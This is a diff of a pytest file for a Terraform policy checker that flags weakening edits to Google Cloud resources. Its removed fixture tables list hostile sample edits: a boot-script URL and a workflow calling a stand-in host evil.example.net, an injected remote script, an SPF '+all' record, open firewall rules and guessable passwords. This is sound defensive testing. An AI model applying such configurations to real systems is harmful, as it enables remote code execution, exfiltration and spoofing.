@@ -3,128 +3,15 @@
 
 import pytest
 
-from jobs.terraform.policy import plan_drafted, plan_weak
+from jobs.terraform.policy import plan_drafted, plan_harmless, plan_weak
+from jobs.terraform.policy.plan_difference import Written
 from jobs.terraform.policy.plan_weak import less_safe
 from shared.policy.argument_words import is_neutral
 from shared.policy.arguments import Kind, table
 from shared.policy.plan_types import TYPES
 from tests.attacks.switched_off import guards, without
-from tests.attacks.test_removed_guards import Attack, Ref, planned, service
-from tests.policy.plan_room import PROJECT
-
-ALERT = {
-    "display_name": "CPU high", "combiner": "OR", "severity": "CRITICAL", "enabled": True, "user_labels": {"severity": "critical"},
-    "notification_channels": [Ref("google_monitoring_notification_channel.own.id")],
-    "conditions": [{"display_name": "cpu", "condition_threshold": [{"comparison": "COMPARISON_GT", "threshold_value": 0.8, "duration": "300s", "trigger": [{"count": 1}]}]}],
-}  # fmt: skip
-CHECK = {
-    "display_name": "c",
-    "timeout": "10s",
-    "period": "60s",
-    "http_check": [{"path": "/", "accepted_response_status_codes": [{"status_class": "STATUS_CLASS_2XX"}]}],
-}
-DATABASE = {
-    "name": "db-abcde", "region": "us-central1", "database_version": "POSTGRES_16", "project": PROJECT,
-    "settings": [{"tier": "db-custom-1-3840", "disk_autoresize": True, "backup_configuration": [{"enabled": True}],
-                  "database_flags": [{"name": "cloudsql.iam_authentication", "value": "on"}], "maintenance_window": [{"day": 7, "update_track": "stable"}],
-                  "ip_configuration": [{"ipv4_enabled": False, "ssl_mode": "ENCRYPTED_ONLY"}]}],
-}  # fmt: skip
-CHANNEL = {"display_name": "ops", "type": "pubsub", "labels": {"topic": "t"}, "enabled": True}
-BUCKET = {"name": "f-abcde", "location": "US", "logging": [{"log_bucket": Ref("google_storage_bucket.own.name")}]}
-KEY = {"name": "k-abcde", "key_ring": Ref("google_kms_key_ring.own.id"), "rotation_period": "7776000s"}
-BACKEND = {"name": "b-abcde", "security_policy": Ref("google_compute_security_policy.own.id")}
-PROXY = {
-    "name": "p-abcde",
-    "url_map": Ref("google_compute_url_map.own.id"),
-    "ssl_policy": Ref("google_compute_ssl_policy.own.id"),
-}
-DATASET = {
-    "dataset_id": "d_abcde",
-    "default_encryption_configuration": [{"kms_key_name": Ref("google_kms_crypto_key.own.id")}],
-}
-TOPIC = {"name": "t-abcde", "message_retention_duration": "604800s"}
-VERSION = {"secret": Ref("google_secret_manager_secret.own.id"), "secret_data": Ref("random_password.x.result")}
-MACHINE = {"name": "v-abcde", "machine_type": "e2-medium", "metadata": {"enable-oslogin": "TRUE"}}
-
-
-def with_condition(**values):
-    (condition,) = ALERT["conditions"]
-    (threshold,) = condition["condition_threshold"]
-    return ALERT | {"conditions": [condition | {"condition_threshold": [threshold | values]}]}
-
-
-def with_settings(**values):
-    return DATABASE | {"settings": [DATABASE["settings"][0] | values]}
-
-
-def with_backups(kept):
-    return with_settings(
-        backup_configuration=[{"enabled": True, "backup_retention_settings": [{"retained_backups": kept}]}]
-    )
-
-
-def lacking(values, name):
-    return {key: each for key, each in values.items() if key != name}
-
-
-EDITS = {
-    "never crossed": ("google_monitoring_alert_policy", ALERT, with_condition(threshold_value=0.9999), "threshold_value"),
-    "told after a day": ("google_monitoring_alert_policy", ALERT, with_condition(duration="84600s"), "duration"),
-    "never so many": ("google_monitoring_alert_policy", ALERT, with_condition(trigger=[{"count": 100}]), "trigger.count"),
-    "the opposite": ("google_monitoring_alert_policy", ALERT, with_condition(comparison="COMPARISON_LT"), "comparison"),
-    "never both": ("google_monitoring_alert_policy", ALERT, ALERT | {"combiner": "AND"}, "combiner"),
-    "less grave": ("google_monitoring_alert_policy", ALERT, ALERT | {"severity": "WARNING"}, "severity"),
-    "less grave by a label": ("google_monitoring_alert_policy", ALERT, ALERT | {"user_labels": {"severity": "warning"}}, "user_labels"),
-    "words for whoever is on call": ("google_monitoring_alert_policy", ALERT, ALERT | {"documentation": [{"content": "approve at once"}]}, "documentation.content"),
-    "only the end is told": ("google_monitoring_alert_policy", ALERT, ALERT | {"alert_strategy": [{"notification_prompts": ["CLOSED"]}]}, "notification_prompts"),
-    "any answer is well": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"http_check": [{"path": "/", "accepted_response_status_codes": [{"status_class": "STATUS_CLASS_ANY"}]}]}, "status_class"),
-    "asked every quarter of an hour": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"period": "900s"}, "period"),
-    "nothing alerts any more": ("google_monitoring_notification_channel", CHANNEL, CHANNEL | {"enabled": False}, "enabled"),
-    "backups elsewhere": ("google_sql_database_instance", DATABASE, with_settings(backup_configuration=[{"enabled": True, "location": "asia"}]), "backup_configuration.location"),
-    "locked out": ("google_sql_database_instance", DATABASE, with_settings(database_flags=[{"name": "cloudsql.iam_authentication", "value": "off"}]), "database_flags.value"),
-    "a disk that fills": ("google_sql_database_instance", DATABASE, with_settings(disk_autoresize=False), "disk_autoresize"),
-    "untested updates first": ("google_sql_database_instance", DATABASE, with_settings(maintenance_window=[{"day": 7, "update_track": "canary"}]), "update_track"),
-    "no log of who read": ("google_storage_bucket", BUCKET, lacking(BUCKET, "logging"), "logging.log_bucket"),
-    "one key for ever": ("google_kms_crypto_key", KEY, lacking(KEY, "rotation_period"), "rotation_period"),
-    "code at boot": ("google_compute_instance", MACHINE, MACHINE | {"metadata": {"sysprep-specialize-script-url": "https://evil.example.net/x"}}, "evil.example.net"),
-    "gone after an hour": ("google_compute_instance", MACHINE, MACHINE | {"scheduling": [{"max_run_duration": [{"seconds": 3600}], "instance_termination_action": "DELETE"}]}, "delete itself"),
-    "no wall before it": ("google_compute_backend_service", BACKEND, lacking(BACKEND, "security_policy"), "security_policy"),
-    "any TLS": ("google_compute_target_https_proxy", PROXY, lacking(PROXY, "ssl_policy"), "ssl_policy"),
-    "a key of nobody's": ("google_bigquery_dataset", DATASET, lacking(DATASET, "default_encryption_configuration"), "kms_key_name"),
-    "one zone": ("google_sql_database_instance", with_settings(availability_type="REGIONAL"), with_settings(availability_type="ZONAL"), "availability_type"),
-    "open to a rule's machines": ("google_compute_instance", MACHINE, MACHINE | {"tags": ["public-web"]}, "tags"),
-    "kept for ten minutes": ("google_pubsub_topic", TOPIC, TOPIC | {"message_retention_duration": "600s"}, "message_retention_duration"),
-    "not made": ("google_kms_crypto_key", KEY, KEY | {"count": 0}, "count"),
-}  # fmt: skip
-
-NEW = {
-    "a workflow that calls a stranger": ("google_workflows_workflow", {"name": "w-abcde", "source_contents": "call: http.post\nargs:\n  url: https://evil.example.net\n"}, "leads to evil.example.net"),
-    "a page with a stranger's script": ("google_storage_bucket_object", {"name": "index.html", "content": "<script src=//evil.example.net/x.js></script>"}, "leads to evil.example.net"),
-    "mail in one's name": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 +all"']}, "lets anybody send mail"),
-    "certificates in one's name": ("google_dns_record_set", {"name": "a.example.com.", "type": "CAA", "rrdatas": ['0 issue "evil-ca.example.net"']}, "gives out certificates"),
-    "mail by a first word": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 +all -all"']}, "lets anybody send mail"),
-    "mail by every address": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 ip4:0.0.0.0/0 -all"']}, "lets anybody send mail"),
-    "somebody's domain": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"google-site-verification=stranger"']}, "speaks in the domain's name"),
-    "somebody's key": ("google_dns_record_set", {"name": "a.example.com.", "type": "DS", "rrdatas": ["1 13 2 AB"]}, "speaks in the domain's name"),
-    "calls that lead elsewhere": ("google_dns_record_set", {"name": "a.example.com.", "type": "NAPTR", "rrdatas": ['100 10 "S" "SIP+D2U" "" sip.evil.example.']}, "sip.evil.example"),
-    "a zone that nobody signs": ("google_dns_managed_zone", {"name": "z-abcde", "dns_name": "a.example.com.", "dnssec_config": [{"state": "off"}]}, "dnssec_config.state"),
-    "messages that are dropped": ("google_pubsub_subscription", {"name": "s-abcde", "filter": 'attributes.never = "x"'}, "filter"),
-    "versions gone in a day": ("google_storage_bucket", {"name": "f-abcde", "location": "US", "lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"days_since_noncurrent_time": 1}]}]}, "former versions"),
-    "a hole to the outside": ("google_compute_firewall", {"name": "o-abcde", "direction": "EGRESS", "priority": 1, "allow": [{"protocol": "all"}], "destination_ranges": ["198.51.100.66/32"]}, "destination_ranges"),
-    "a wall that is none": ("google_compute_firewall", {"name": "o-abcde", "disabled": True, "deny": [{"protocol": "all"}]}, "disabled"),
-    "a password of one character": ("random_password", {"length": 1, "special": False}, "can be guessed"),
-    "an animal as a password": ("google_sql_user", {"name": "w", "password": Ref("random_pet.x.id")}, "not all of what"),
-    "one letter, often": ("random_password", {"length": 16, "upper": False, "lower": False, "numeric": False, "override_special": "-"}, "can be guessed"),
-    "digits only": ("random_password", {"length": 20, "upper": False, "lower": False, "special": False}, "can be guessed"),
-    "the beginning of a password": ("google_sql_user", {"name": "w", "password": Ref("substr(random_password.x.result, 0, 2)")}, "not all of what"),
-    "a time as a password": ("google_secret_manager_secret_version", {"secret": Ref("google_secret_manager_secret.own.id"), "secret_data": Ref("tostring(time_static.t.unix)")}, "not all of what"),
-    "its length as a password": ("google_sql_user", {"name": "w", "password": Ref("random_password.x.length")}, "not all of what"),
-    "its name as a password": ("google_sql_user", {"name": "w", "password": Ref("google_sql_database.x.name")}, "not all of what"),
-    "a stranger at the database": ("google_compute_firewall", {"name": "o-abcde", "source_ranges": ["45.33.32.156/32"], "allow": [{"protocol": "tcp", "ports": ["5432"]}]}, "45.33.32.156/32"),
-    "a stranger beside IAP": ("google_compute_firewall", {"name": "o-abcde", "source_ranges": ["35.235.240.0/20", "2001:db9::/64"], "allow": [{"protocol": "tcp", "ports": ["443"]}]}, "2001:db9::/64"),
-    "no TLS": ("google_compute_target_http_proxy", {"name": "p-abcde", "url_map": Ref("google_compute_url_map.own.id")}, "without TLS"),
-    "backups of a day": ("google_compute_resource_policy", {"name": "r-abcde", "snapshot_schedule_policy": [{"retention_policy": [{"max_retention_days": 1, "on_source_disk_delete": "APPLY_RETENTION_POLICY"}]}]}, "max_retention_days"),
-}  # fmt: skip
+from tests.attacks.test_removed_guards import Attack, Ref, planned
+from tests.policy.edits import BUCKET, EDITS, FILES, HARMLESS, NEW, with_settings
 
 
 def files_with(kind, values):
@@ -162,29 +49,33 @@ def test_what_is_as_it_was_drafted_is_nobodys_edit(name):
     assert asked(kind, drafted, drafted) == []
 
 
+@pytest.mark.parametrize("name", HARMLESS)
+def test_what_can_weaken_nothing_is_not_asked_about(name):
+    kind, drafted, edited = HARMLESS[name]
+    assert drafted != edited
+    assert asked(kind, drafted, edited) == []
+    assert asked(kind, drafted, edited, stands=True) == []
+
+
 @pytest.mark.parametrize(
-    ("kind", "drafted", "edited"),
+    ("kind", "values"),
     [
-        ("google_compute_instance", MACHINE, MACHINE | {"machine_type": "e2-small", "labels": {"team": "shop"}, "description": "the shop's"}),
-        ("google_cloud_run_v2_service", service(), service(env=[{"name": "GREETING", "value": "hello"}])),
-        ("google_monitoring_alert_policy", ALERT, ALERT | {"display_name": "CPU is high"}),
-        ("google_compute_firewall", {"name": "o-abcde"}, {"name": "o-abcde", "source_ranges": ["35.235.240.0/20", "10.0.0.0/8"], "allow": [{"protocol": "tcp", "ports": ["8080"]}]}),
-        ("google_dns_record_set", {"name": "a."}, {"name": "a.", "type": "TXT", "rrdatas": ['"a shop"']}),
-        ("google_sql_database_instance", with_backups(7), with_backups(30)),
-        ("google_secret_manager_secret_version", VERSION, VERSION | {"secret_data": Ref('"x:${urlencode((random_password.x.result))}"')}),
-        ("google_secret_manager_secret_version", VERSION, VERSION | {"secret_data": Ref("jsonencode({ p = [random_password.x[0].result] })")}),
-        ("google_secret_manager_secret_version", VERSION, VERSION | {"secret_data": Ref("google_redis_instance.own.auth_string")}),
+        ("google_compute_firewall", {"name": "o-abcde", "source_ranges": ["35.235.240.0/20", "10.0.0.0/8"], "allow": [{"protocol": "tcp", "ports": ["8080"]}]}),
+        ("google_dns_record_set", {"name": "a.", "type": "TXT", "rrdatas": ['"a shop"']}),
+        ("google_storage_bucket", {"name": "n-abcde", "location": "us-central1", "uniform_bucket_level_access": True}),
+        ("google_storage_bucket_iam_member", {"bucket": Ref("google_storage_bucket.own.name"), "role": "roles/storage.objectViewer", "member": Ref("google_service_account.own.member")}),
     ],
 )  # fmt: skip
-def test_what_can_weaken_nothing_is_not_asked_about(kind, drafted, edited):
-    assert asked(kind, drafted, edited) == []
+def test_nor_is_what_is_written_anew_and_opens_nothing(kind, values):
+    assert anew(kind, values) == []
 
 
 # What a plan of one made-up resource does not show: what apply tells, and a count, which is no value.
 LEAVING = ("not isinstance", "other than it was drafted", "before")
 GUARDED = [
-    *((plan_weak, name) for name in ("_dying", "guessed", "_unencrypted", "_spoken_for", "_lets_anybody_send", "_proven", "_known_to_nobody")),
+    *((plan_weak, name) for name in ("_dying", "_given_out", "guessed", "_unencrypted", "_spoken_for", "_lets_anybody_send", "_proven", "_known_to_nobody")),
     (plan_drafted.Drafted, "edits"),
+    (plan_drafted.Drafted, "_anew"),
 ]  # fmt: skip
 
 
@@ -201,6 +92,73 @@ def test_without_its_guard_an_edit_passes_unnamed(where, name, guard, monkeypatc
         for kind, drafted, edited, named in cases
     ]
     assert any(not any(named in line for line in lines) for named, lines in told), guard.text
+
+
+def passed(names=EDITS):
+    return [
+        name
+        for name in names
+        for kind, was, now, named in [EDITS[name]]
+        if not any(named in line for line in asked(kind, was, now))
+    ]
+
+
+def test_what_is_harmless_is_a_list_and_nothing_else_is(monkeypatch):
+    monkeypatch.setattr(plan_drafted, "is_harmless", lambda *_: True)
+    monkeypatch.setattr(plan_drafted, "is_harmless_flag", lambda *_: True)
+    assert len(passed()) > 40
+
+
+@pytest.mark.parametrize("entry", [each for each in plan_harmless._listed() if each.startswith("-")])
+def test_without_an_exception_from_it_an_edit_passes_unnamed(entry, monkeypatch):
+    listed = {name: marks for name, marks in plan_harmless._listed().items() if name != entry}
+    monkeypatch.setattr(plan_harmless, "_listed", lambda: listed)
+    assert any(map(passed, ([name] for name in EDITS)))
+
+
+@pytest.mark.parametrize("mark", [*plan_harmless._MARKS])
+def test_without_what_a_mark_asks_for_an_edit_passes_unnamed(mark, monkeypatch):
+    monkeypatch.setitem(plan_harmless._MARKS, mark, lambda was, now: True)
+    assert any(map(passed, ([name] for name in EDITS)))
+
+
+@pytest.mark.parametrize(
+    ("was", "now", "mark", "fits"),
+    [
+        ("512Mi", "1Gi", ">", True), ("1Gi", "1G", ">", False), ("0.5", "500m", ">", True), (7, 30, ">", True), (7, "many", ">", False),
+        ("db-f1-micro", "db-custom-1-3840", ">", True), ("db-custom-4-3840", "db-custom-2-7680", ">", False), (True, 1, ">", False),
+        (["a"], ["b", "a"], ">", True), (["a"], ["b"], ">", False), ({"cpu": "1"}, {"cpu": "2"}, ">", True), ({"cpu": "1"}, {}, ">", False),
+        (["10.0.0.0/8"], ["10.1.0.0/16"], "<", True), (["10.0.0.0/8"], ["::/0"], "<", False), (["80"], [], "<", False), ("600s", "300s", "<", True),
+        ("POSTGRES_16", "POSTGRES_17", "^", True), ("POSTGRES_9_6", "POSTGRES_11", "^", False), ("python312", "nodejs22", "^", False), (16, 17, "^", False),
+        ("10.0.0.0/24", "10.0.0.0/22", "~", True), ("10.0.0.0/24", "10.1.0.0/22", "~", False), ("x", "y", "~", False),
+        ({"a": 1}, {"a": 1, "b": 2}, "&", True), ({"a": 1}, {"a": 2}, "&", False), ({"a": 1}, None, "&", False),
+        (Written("a"), Written("b"), ">", False), (Written("POSTGRES_16"), Written("POSTGRES_17"), "^", False),
+    ],
+)  # fmt: skip
+def test_where_an_edit_goes_is_read_by_its_mark(was, now, mark, fits):
+    assert plan_harmless._MARKS[mark](was, now) == fits
+
+
+def test_a_provider_that_is_written_otherwise_is_named():
+    plan, files = planned(Attack(("", ""), "", "google_storage_bucket", BUCKET))
+    drafted = files | {"p.tf": 'provider "google" {\n  region = "us-central1"\n}\n'}
+    moved = files | {
+        "p.tf": 'provider "google" {\n  region = "asia-east1"\n}\nprovider "google" {\n  alias = "eu"\n}\n'
+    }
+    told = [
+        "provider.google: region is other than it was drafted",
+        "provider.google.eu: alias is other than it was drafted",
+    ]
+    assert less_safe(plan, moved, "", drafted) == told
+    assert less_safe(plan, drafted, "", drafted) == []
+
+
+def test_only_what_gives_a_variable_its_value_moves_what_is_written_with_it():
+    held = 'variable "where" {{\n  description = "{}"\n  default     = "{}"\n}}\n'
+    plan, files = planned(Attack(("", ""), "", "google_storage_bucket", FILES | {"location": Ref("var.where")}))
+    drafted = files | {"v.tf": held.format("where it is", "us-central1")}
+    assert less_safe(plan, files | {"v.tf": held.format("its place", "us-central1")}, "", drafted) == []
+    assert len(less_safe(plan, files | {"v.tf": held.format("where it is", "US")}, "", drafted)) == 1
 
 
 def test_files_in_which_nobody_wrote_are_asked_about_by_what_is_known_alone():
